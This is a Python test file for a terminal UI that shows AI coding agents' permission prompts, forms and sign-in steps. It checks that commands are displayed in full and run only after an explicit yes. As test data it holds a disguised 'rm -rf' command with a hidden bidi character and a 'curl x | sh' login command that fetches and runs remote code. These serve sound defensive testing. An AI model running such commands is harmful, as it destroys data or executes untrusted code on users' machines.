"""Questions as panels: what they show and what answers them."""

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from rich.console import RenderableType

from antiphon.config.environment import owner_of
from antiphon.protocol import v1
from antiphon.tui.form_panel import FieldProblem, FormPanel, read_field
from antiphon.tui.painter import Painter
from antiphon.tui.panels import ALONE, PAUSE, CommandPanel, MenuPanel, PagePanel, Panel
from antiphon.tui.question.permission import PermissionAnswer, PermissionPanel, PermissionSubject, Scope, subject_of
from antiphon.tui.question.sign_in import choose_login
from tests.rows import each_row

PAINTER = Painter(80, colour=False)
ONCE = [
    v1.PermissionOption("yes", "Yes", v1.PermissionOptionKind.ALLOW_ONCE),
    v1.PermissionOption("no", "No", v1.PermissionOptionKind.REJECT_ONCE),
]
RULED = PermissionSubject("Run it", always=("Bash(ls)",), options=ONCE)


def press(panel: Panel, keys: str, gap: float = ALONE) -> None:
    """Press keys with so many seconds between them, and then wait. Esc and Ctrl-C leave."""
    at = 0.0
    for key in keys:
        panel.settle(at)
        if panel.done:
            return
        if key in "\x1b\x03":
            panel.leave("escape" if key == "\x1b" else "interrupt")
        else:
            panel.key(key, at)
        at += gap
    panel.settle(at + PAUSE)


def pressed(keys: str, subject: PermissionSubject = RULED, gap: float = ALONE) -> PermissionAnswer | None:
    panel = PermissionPanel(subject)
    press(panel, keys, gap)
    return panel.answer if panel.done else None


@each_row(
    ("keys", "answer"),
    [
        ("y", PermissionAnswer(True)),
        ("n", PermissionAnswer(False)),
        ("as", PermissionAnswer(True, "session")),
        ("ap", PermissionAnswer(True, "project")),
        ("ade", PermissionAnswer(False, "everywhere")),
        ("\x1b", PermissionAnswer(False)),
        ("\x03", PermissionAnswer(False)),
        ("a\x1bn", PermissionAnswer(False)),
        ("a\x03", PermissionAnswer(False)),
        ("a", None),
        ("ay", None),
        ("xY1 \r", None),
        ("v", None),
        ("A", None),
    ],
)
def test_one_key_answers_and_always_asks_for_how_long(keys: str, answer: PermissionAnswer | None) -> None:
    assert pressed(keys) == answer


YES: dict[str, Scope | None] = {"y": None, "as": "session", "ap": "project", "ae": "everywhere"}
GAPS = st.floats(0, ALONE, exclude_max=True)
TYPED = st.sampled_from(["yikes", "asking", "append", "always", "aeon", "you", "ya", "hey", "vy", "ads"]) | st.text(
    alphabet="yanrAdspevo1 ", max_size=6
)


@settings(max_examples=300)
@example("asdf", 0.0)
@example("yikes", 0.3)
@given(TYPED | st.text(max_size=6), GAPS)
def test_letters_of_words_and_of_pastes_allow_nothing(words: str, gap: float) -> None:
    assert words == "y" or pressed(words, gap=gap) in (None, PermissionAnswer(False))


@settings(max_examples=200)
@given(TYPED)
def test_only_the_keys_that_are_shown_allow_something_however_slowly_they_are_pressed(words: str) -> None:
    answer = pressed(words, gap=PAUSE)
    allowed = answer is not None and answer.allow
    assert not allowed or any(words.endswith(keys) or keys in words for keys in YES)
    assert words not in YES or answer == PermissionAnswer(True, YES[words])


@given(st.text(max_size=6) | TYPED, GAPS)
def test_words_open_no_page_choose_nothing_and_start_no_command(words: str, gap: float) -> None:
    if len(words) == 1:
        return
    page, menu = PagePanel("Look", "https://example.org/"), MenuPanel("Which?", [("a", "A", None)])
    command = CommandPanel("Run it?", ["login"], {})
    for panel in (page, menu, command):
        press(panel, words, gap)
    assert (page.answer != "opened", menu.answer, command.answer) == (True, None, False)


@given(st.text(max_size=6))
def test_a_form_without_fields_is_accepted_by_a_yes_alone(words: str) -> None:
    panel = FormPanel("Delete it all?", v1.Form(properties={}))
    panel.enter(words)
    assert (panel.answer == v1.Accepted({})) == (words.strip().lower() in ("y", "yes"))


def test_after_a_pause_a_key_is_an_answer_again() -> None:
    panel = PermissionPanel(RULED)
    for at, key in enumerate("wy"):
        panel.key(key, at / 10)
    panel.settle(5.0)
    assert not panel.done
    panel.key("y", 5.0)
    panel.settle(5.0 + ALONE)
    assert panel.answer == PermissionAnswer(True)


def test_without_a_rule_to_remember_there_is_no_always() -> None:
    bare = PermissionSubject("Run it", options=ONCE)
    assert pressed("a", bare) is None and pressed("A", bare) is None
    assert "always" not in "".join(PermissionPanel(bare).lines(PAINTER, 20))


def test_options_beyond_yes_and_no_are_chosen_by_number() -> None:
    options = [
        v1.PermissionOption("auto", "Yes, and accept edits", v1.PermissionOptionKind.ALLOW_ONCE),
        v1.PermissionOption("ask", "Yes, and ask", v1.PermissionOptionKind.ALLOW_ONCE),
        v1.PermissionOption("no", "No", v1.PermissionOptionKind.REJECT_ONCE),
    ]
    subject = PermissionSubject("Leave plan mode", options=options)
    lines = PermissionPanel(subject).lines(PAINTER, 20)
    assert "2 Yes, and ask" in lines and not any(line.startswith("y ") for line in lines)
    assert pressed("2", subject) == PermissionAnswer(True, option_id="ask")
    assert pressed("3", subject) == PermissionAnswer(False, option_id="no")
    assert pressed("4", subject) is None and pressed("y", subject) is None


def test_a_yes_that_means_more_has_its_own_words_and_what_a_key_means_has_no_number() -> None:
    options = [
        v1.PermissionOption("accept_edits", "Yes, and accept edits", v1.PermissionOptionKind.ALLOW_ALWAYS),
        v1.PermissionOption("ask_for_edits", "Yes, and ask before each edit", v1.PermissionOptionKind.ALLOW_ONCE),
        v1.PermissionOption("keep_planning", "No, stay in plan mode", v1.PermissionOptionKind.REJECT_ONCE),
        v1.PermissionOption("change_plan", "No, and explain what to change", v1.PermissionOptionKind.REJECT_ONCE),
    ]
    subject = PermissionSubject("Ready to code?", options=options)
    assert PermissionPanel(subject).lines(PAINTER, 20)[1:] == [
        "y Yes, and ask before each edit",
        "1 Yes, and accept edits",
        "n no · r no, because …",
    ]
    assert pressed("y", subject) == PermissionAnswer(True)
    assert pressed("1", subject) == PermissionAnswer(True, option_id="accept_edits")
    panel = PermissionPanel(subject)
    press(panel, "r")
    panel.enter("smaller steps")
    assert panel.answer == PermissionAnswer(False, option_id="change_plan", reason="smaller steps")


@pytest.mark.parametrize("columns", [30, 50, 80, 120])
def test_a_row_of_keys_ends_between_two_keys_and_the_rule_is_shown_if_there_is_a_place(columns: int) -> None:
    subject = PermissionSubject("Edit", always=("Edit(src/calc.py)",), options=ONCE, edits=True)
    painter = Painter(columns, colour=False)
    rows = PermissionPanel(subject).lines(painter, 12)[1:]
    assert all(len(row) <= columns and row[1] == " " for row in rows)  # each begins with a key
    keys = " · ".join(rows).split(" · ")
    assert [key.split()[0] for key in keys] == ["y", "a", "A", "n", "r"]
    assert ("a always Edit(src/calc.py)" in keys) is (columns > 30)
    assert len(rows) == {30: 3, 50: 2, 80: 1, 120: 1}[columns]


def test_an_engine_that_is_in_the_title_already_is_named_once() -> None:
    call = v1.ToolCallPatch("1", title="Claude Code: Edit calc.py")
    assert subject_of(call, ONCE, "/w", asked_by="Claude Code").title == "Claude Code: Edit calc.py"
    call = v1.ToolCallPatch("1", title="Edit calc.py")
    assert subject_of(call, ONCE, "/w", asked_by="Claude Code").title == "Claude Code: Edit calc.py"


def test_the_command_and_the_change_are_shown_and_not_only_the_title() -> None:
    call = v1.ToolCallPatch(
        "1",
        title="Tidy up",
        raw_input={"command": "rm -rf \u202ebuild"},
        content=[v1.Diff("/w/a", "new\n", "old\n")],
        locations=[v1.ToolLocation("/w/a"), v1.ToolLocation("/etc/hosts")],
    )
    subject = replace(subject_of(call, ONCE, "/w"), why="A rule asks.")
    lines = PermissionPanel(subject).lines(PAINTER, 20)
    assert lines[:6] == [
        "Allow?  Tidy up",
        "  $ rm -rf <U+202E>build",
        "  a  +1 -1",
        "  - old",
        "  + new",
        "  /etc/hosts",
    ]
    assert lines[6:] == ["  Asked because: A rule asks.", "y once · n no · r no, because …"]


def test_a_command_is_shown_once_also_if_it_is_the_title() -> None:
    line = "python3 -m pytest -q test_calc.py"
    marked = v1.ContentItem(v1.TextBlock("Claude Code asks."), meta={"antiphon": {"question": "engine"}})
    content: list[v1.ToolContent] = [v1.ContentItem(v1.TextBlock("Run the tests")), marked]
    call = v1.ToolCallPatch("1", title=f"`{line}`", raw_input={"command": line}, content=content)
    lines = PermissionPanel(subject_of(call, ONCE, "/w", asked_by="Claude Code")).lines(PAINTER, 20)
    assert lines == ["Allow?  Claude Code: Run the tests", f"  $ {line}", "y once · n no · r no, because …"]


def test_a_change_has_the_numbers_of_its_lines_in_the_file(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("a = 1\nb = 2\n", encoding="utf-8")
    call = v1.ToolCallPatch("1", title="Edit a.py", content=[v1.Diff(f"{tmp_path}/a.py", "b = 3\n", "b = 2\n")])
    subject = subject_of(call, ONCE, str(tmp_path))
    lines = ["Allow?  Edit a.py  +1 -1", "  1   a = 1", "  2 - b = 2", "  2 + b = 3"]
    assert PermissionPanel(subject).lines(PAINTER, 20)[:4] == lines


def test_all_edits_are_offered_for_edits_alone() -> None:
    subject = replace(RULED, edits=True)
    assert "A all edits" in PermissionPanel(subject).lines(PAINTER, 20)[-1]
    assert pressed("A", subject) == PermissionAnswer(True, all_edits=True)


def test_the_rule_that_always_would_remember_can_be_changed_and_is_checked() -> None:
    subject = replace(RULED, check=lambda rules: "" if rules[0].startswith("Bash(") else "it would not allow this call")
    panel = PermissionPanel(subject)
    press(panel, "ac", gap=PAUSE)
    assert (panel.typed, panel.prefill) == ("Rule: ", "Bash(ls)")
    panel.enter("Read")
    assert "✗ it would not allow this call" in panel.lines(PAINTER, 20)
    assert (panel.typed, panel.prefill) == ("Rule: ", "Read")  # to be mended
    panel.enter("Bash(ls *)")
    assert panel.lines(PAINTER, 20)[:2] == ["Always allow", "  Bash(ls *)"]
    panel.key("s", 99.0)
    panel.settle(99.0 + ALONE)
    assert panel.answer == PermissionAnswer(True, "session", rules=("Bash(ls *)",))


@each_row(
    ("ids", "option"),
    [(("yes", "no"), None), (("yes", "no", "reject_with_message"), "reject_with_message"), (("yes", "reject_and_stop", "no"), "reject_and_stop")],
)  # fmt: skip
def test_a_no_may_have_a_reason(ids: tuple[str, ...], option: str | None) -> None:
    kinds = [v1.PermissionOptionKind.ALLOW_ONCE if id == "yes" else v1.PermissionOptionKind.REJECT_ONCE for id in ids]
    options = [v1.PermissionOption(id, id, kind) for id, kind in zip(ids, kinds, strict=True)]
    panel = PermissionPanel(PermissionSubject("Run it", options=options))
    panel.key("r", 9.0)
    assert panel.typed == "Because: "
    panel.enter("use make")
    assert panel.answer == PermissionAnswer(False, option_id=option, reason="use make")
    assert not [line for line in PermissionPanel(panel.subject).lines(PAINTER, 20) if line.startswith("1 ")]


def test_what_does_not_fit_is_counted_and_can_be_viewed() -> None:
    seen: list[object] = []
    call = v1.ToolCallPatch("1", title="Write", content=[v1.Diff("/w/a", "x\n" * 50)])
    panel = PermissionPanel(subject_of(call, ONCE, "/w"), seen.extend)
    lines = panel.lines(PAINTER, 12)
    assert len(lines) == 12 and any("more lines" in line for line in lines)
    assert "v view" in panel.lines(PAINTER, 12)[-1]
    press(panel, "v")
    assert len(seen) == 52 and not panel.done  # with the title and the name of the file


@pytest.mark.parametrize("columns", [50, 80, 120])
@pytest.mark.parametrize("words", [3, 300])
def test_a_question_takes_half_of_the_screen_however_long_title_and_options_are(columns: int, words: int) -> None:
    seen: list[object] = []
    kinds = [
        v1.PermissionOptionKind.ALLOW_ONCE,
        *[v1.PermissionOptionKind.ALLOW_ALWAYS] * 7,
        v1.PermissionOptionKind.REJECT_ONCE,
    ]
    options = [
        v1.PermissionOption(str(number), f"option {number} " + "long " * words, kind)
        for number, kind in enumerate(kinds)
    ]
    call = v1.ToolCallPatch("1", title="Call it with " + "many words " * words, raw_input={"argument": "x " * words})
    panel = PermissionPanel(subject_of(call, options, "/w"), seen.extend)
    lines = panel.lines(Painter(columns, colour=False), 12)
    assert len(lines) <= 12 and max(map(len, lines)) <= columns
    assert lines[0].startswith("Allow?  Call it with many words")
    assert all(any(f"{number} option {number}" in line for line in lines) for number in range(1, 8))
    assert "v view" in lines[-1]
    press(panel, "v")
    viewed = "\n".join(str(getattr(thing, "plain", thing)) for thing in seen)
    assert "many words " * (words - 1) in viewed and "x " * (words - 1) in viewed and "long " * (words - 1) in viewed


def test_of_a_long_change_only_what_is_in_sight_is_painted() -> None:
    painted: list[object] = []

    class Counting(Painter):
        def paint(self, thing: RenderableType, *, indent: int = 0) -> list[str]:
            painted.append(thing)
            return super().paint(thing, indent=indent)

    call = v1.ToolCallPatch("1", title="Write", content=[v1.Diff("/w/a", "x\n" * 3000)])
    panel, painter = PermissionPanel(subject_of(call, ONCE, "/w")), Counting(80, colour=False)
    for _ in range(20):  # it is drawn anew five times in a second
        panel.lines(painter, 12)
    lines = panel.lines(painter, 12)
    assert len(lines) == 12 and any("… 2992 more lines" in line for line in lines), lines
    assert len(painted) < 200


def test_input_of_an_unknown_tool_is_shown_as_it_is() -> None:
    subject = subject_of(v1.ToolCallPatch("1", title="Magic", raw_input={"spell": "x\x1b", "n": 3}), ONCE, "/w")
    assert PermissionPanel(subject).lines(PAINTER, 20)[1:3] == ["  spell: x␛", "  n: 3"]


# --- forms ---


@each_row(
    ("field", "typed", "value"),
    [
        (v1.StringProperty(), "a b", "a b"),
        (v1.StringProperty(enum=["red", "blue"]), "2", "blue"),
        (v1.StringProperty(one_of=[v1.EnumOption("r", "Red")]), "red", "r"),
        (v1.StringProperty(format=v1.StringFormat.EMAIL), "a@b.c", "a@b.c"),
        (v1.IntegerProperty(minimum=1), "7", 7),
        (v1.NumberProperty(), "0.5", 0.5),
        (v1.BooleanProperty(), "yes", True),
        (v1.BooleanProperty(), "off", False),
        (v1.MultiSelectProperty(v1.StringItems(["a", "b", "c"])), "1, c c", ["a", "c"]),
    ],
)
def test_what_is_typed_becomes_the_value_of_the_field(field: v1.Property, typed: str, value: object) -> None:
    assert read_field(field, typed) == value


@each_row(
    ("field", "typed"),
    [
        (v1.StringProperty(min_length=3), "ab"),
        (v1.StringProperty(max_length=1), "ab"),
        (v1.StringProperty(pattern="^x"), "ab"),
        (v1.StringProperty(enum=["red"]), "2"),
        (v1.StringProperty(format=v1.StringFormat.DATE), "tomorrow"),
        (v1.IntegerProperty(maximum=5), "7"),
        (v1.IntegerProperty(), "0.5"),
        (v1.NumberProperty(), "nan"),
        (v1.BooleanProperty(), "perhaps"),
        (v1.MultiSelectProperty(v1.StringItems(["a", "b"]), max_items=1), "1 2"),
    ],
)
def test_what_does_not_fit_is_wrong_and_why(field: v1.Property, typed: str) -> None:
    with pytest.raises(FieldProblem, match=r"\w"):
        read_field(field, typed)


def test_an_empty_line_is_the_default_and_what_is_required_has_to_be_answered() -> None:
    form = v1.Form(
        properties={"name": v1.StringProperty(), "age": v1.IntegerProperty(default=7), "note": v1.StringProperty()},
        required=["name"],
    )
    panel = FormPanel("Who?", form)
    assert panel.typed == "name: "
    panel.enter("")
    assert panel.typed == "name: " and "✗ this one has to be answered" in panel.lines(PAINTER, 20)
    for line in ("Ada", "", ""):
        panel.enter(line)
    assert panel.done and panel.answer == v1.Accepted({"name": "Ada", "age": 7})


def test_a_form_is_declined_by_escape_and_dismissed_by_ctrl_c() -> None:
    for how, answer in (("escape", v1.Declined()), ("interrupt", v1.Dismissed())):
        panel = FormPanel("Who?", v1.Form(properties={"name": v1.StringProperty()}))
        panel.leave("escape" if how == "escape" else "interrupt")
        assert panel.done and panel.answer == answer


COLOURS = [v1.EnumOption(name, name, None) for name in ("Red", "Dark blue", "Green")]
BESIDE = v1.StringProperty("Colour: other", meta={"antiphon": {"other": "colour"}})


@each_row(
    ("typed", "values"),
    [
        ("2", {"colour": "Dark blue"}),
        ("dark BLUE", {"colour": "Dark blue"}),
        ("rather none", {"other": "rather none"}),
        ("1: but darker", {"colour": "Red", "other": "but darker"}),
        ("", {}),
        ("4", None),
        ("7: what", None),
    ],
)
def test_a_choice_and_the_users_own_words_are_one_step(typed: str, values: dict[str, str] | None) -> None:
    field = v1.StringProperty("Colour", one_of=COLOURS)
    panel = FormPanel("Which colour?", v1.Form(properties={"colour": field, "other": BESIDE}))
    assert "1 of" not in "".join(panel.lines(PAINTER, 20)) and panel.typed == "Colour: "
    panel.enter(typed)
    assert panel.answer == (v1.Accepted({**values}) if values is not None else v1.Dismissed())
    assert panel.done is (values is not None)


@each_row(
    ("typed", "values"),
    [
        ("1, 3", {"colour": ["Red", "Green"]}),
        ("1 3", {"colour": ["Red", "Green"]}),
        ("dark blue, a touch of pink, red", {"colour": ["Dark blue", "Red"], "other": "a touch of pink"}),
        ("none of them", {"other": "none of them"}),
        ("1 9", None),
    ],
)
def test_several_choices_and_own_words_are_one_step(typed: str, values: dict[str, str | list[str]] | None) -> None:
    field = v1.MultiSelectProperty(v1.TitledItems(COLOURS), "Colour")
    panel = FormPanel("Which colours?", v1.Form(properties={"colour": field, "other": BESIDE}))
    panel.enter(typed)
    assert panel.answer == (v1.Accepted(dict(values)) if values is not None else v1.Dismissed())


def test_what_was_chosen_and_typed_is_one_line_of_the_answer() -> None:
    field = v1.StringProperty("Colour", one_of=COLOURS)
    panel = FormPanel("Which colour?", v1.Form(properties={"colour": field, "other": BESIDE}))
    panel.enter("2: but lighter")
    assert panel.answered() == ["Colour: Dark blue, but lighter"]


def test_a_page_is_opened_only_when_asked_to() -> None:
    for key, answer, browser in (("o", "opened", True), ("y", "opened", False), ("n", "declined", False)):
        panel = PagePanel("Look", "https://example.org/\u202e")
        assert "  https://example.org/<U+202E>" in panel.lines(PAINTER, 20)
        press(panel, "x")
        assert not panel.done
        panel.key(key, 9.0)
        panel.settle(10.0)
        assert (panel.answer, panel.wants_browser) == (answer, browser)


# --- signing in ---


async def login(
    methods: list[v1.AuthMethod], key: str, status: int = 0, confirm: str = "y", shown: list[str] | None = None
) -> tuple[str | None, list[list[str]], list[str]]:
    ran: list[list[str]] = []
    shown = [] if shown is None else shown
    texts: list[str] = []

    async def show(panel: Panel) -> None:
        shown.extend(panel.lines(PAINTER, 20))
        press(panel, key if isinstance(panel, MenuPanel) else confirm)
        if not panel.done:
            panel.leave("escape")

    async def run(command: list[str], env: dict[str, str]) -> int:
        ran.append([*command, env.get("TOKEN_PLACE", "")])
        assert "PATH" in env and not [name for name in env if owner_of(name)]
        return status

    return await choose_login(methods, ["agent", "--acp"], show, run, texts.append), ran, texts


async def test_a_login_by_the_agent_is_chosen_by_number() -> None:
    methods: list[v1.AuthMethod] = [v1.AgentAuth("a", "A"), v1.AgentAuth("b", "B")]
    assert await login(methods, "2") == ("b", [], [])
    assert await login(methods, "3") == (None, [], [])


async def test_a_login_in_the_terminal_runs_the_agents_program_there(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY"):
        monkeypatch.setenv(name, "a key of another")
    method = v1.TerminalAuth("t", "T", args=["login"], env={"TOKEN_PLACE": "x"})
    assert await login([method], "1") == ("t", [["agent", "--acp", "login", "x"]], [])
    assert await login([method], "1", status=3) == (
        None,
        [["agent", "--acp", "login", "x"]],
        ["The login ended with 3."],
    )


async def test_a_login_that_is_named_beside_the_method_is_run_too() -> None:
    shown = v1.AgentAuth("m", "M", meta={"terminal-auth": {"command": "/bin/claude", "args": ["/login"]}})
    assert await login([shown], "1") == ("m", [["/bin/claude", "/login", ""]], [])


@pytest.mark.parametrize(
    "method",
    [
        v1.AgentAuth("m", "Sign in", meta={"terminal-auth": {"command": "sh", "args": ["-c", "curl x | sh"], "env": {"A": "b"}}}),
        v1.TerminalAuth("t", "Sign in", args=["-c", "curl x | sh"], env={"A": "b"}),
    ],
)  # fmt: skip
async def test_the_command_of_a_login_is_shown_and_runs_only_after_a_yes(method: v1.AuthMethod) -> None:
    for answer in ("n", "\x1b", "\x03", "", "login"):
        shown: list[str] = []
        chosen, ran, printed = await login([method], "1", confirm=answer, shown=shown)
        assert (chosen, ran, printed) == (None, [], ["The login was not started."])
        [line] = [line for line in shown if "$ " in line]
        assert line.strip().startswith("$ A=b ") and line.endswith("-c 'curl x | sh'")


async def test_no_way_to_sign_in_is_reported() -> None:
    answer, _, printed = await login([], "1")
    assert answer is None and "sign in with its own program" in printed[0]


def test_a_menu_answers_with_the_id() -> None:
    menu = MenuPanel("Which?", [("a", "A", None), ("b", "B", "the other")])
    assert menu.lines(PAINTER, 20)[-2:] == [" 2  B  the other", "1-2 choose · esc none of them"]
    assert MenuPanel("Which?", [("a", "A", None)]).lines(PAINTER, 20)[-1] == "1 choose · esc none of them"
    for at, key in enumerate(("9", "x", "2")):
        menu.key(key, float(at))
        menu.settle(at + ALONE)
        assert menu.done is (key == "2")
    assert menu.answer == "b"
